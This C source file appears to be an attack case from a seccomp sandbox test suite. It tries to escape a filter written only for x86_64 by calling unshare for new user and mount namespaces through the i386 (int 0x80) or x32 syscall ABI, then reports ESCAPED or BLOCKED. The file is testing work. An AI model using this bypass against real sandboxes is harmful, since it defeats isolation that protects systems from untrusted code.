/*
 * abi.c -- ATTACK: bypass the seccomp filter through another syscall ABI.
 *
 * Usage: ./abi MARKER i386|x32
 * A seccomp filter written only for x86_64 syscall numbers can be bypassed by
 * entering the kernel through the 32-bit ABI (int $0x80, where the numbers
 * differ) or the x32 ABI (x86_64 numbers with bit 30 set).  Both attempts call
 * unshare(CLONE_NEWUSER|CLONE_NEWNS), which the sandbox forbids:
 *   i386: int $0x80 with eax=310 (__NR_unshare on i386)
 *   x32:  syscall with rax=0x40000000|272 (__NR_unshare on x86_64 | X32 bit)
 * Prints "ESCAPED: <abi> unshare returned 0" if the call went through, else
 * "BLOCKED: <abi> errno=<n>" (the filter should rather kill the process).
 */
#include <stdio.h>
#include <string.h>

#define CLONE_NEWNS_ 0x00020000
#define CLONE_NEWUSER_ 0x10000000

int main(int argc, char **argv) {
    const char *mode = argc > 2 ? argv[2] : "i386";
    long ret;
    printf("TRYING %s\n", mode);
    fflush(stdout);
    if (strcmp(mode, "i386") == 0) {
        long nr = 310, flags = CLONE_NEWUSER_ | CLONE_NEWNS_;
        __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(flags) : "memory");
    } else {
        long nr = 0x40000000L | 272, flags = CLONE_NEWUSER_ | CLONE_NEWNS_;
        __asm__ volatile("syscall" : "=a"(ret) : "a"(nr), "D"(flags) : "rcx", "r11", "memory");
    }
    if (ret == 0) printf("ESCAPED: %s unshare returned 0\n", mode);
    else printf("BLOCKED: %s errno=%ld\n", mode, -ret);
    return 0;
}
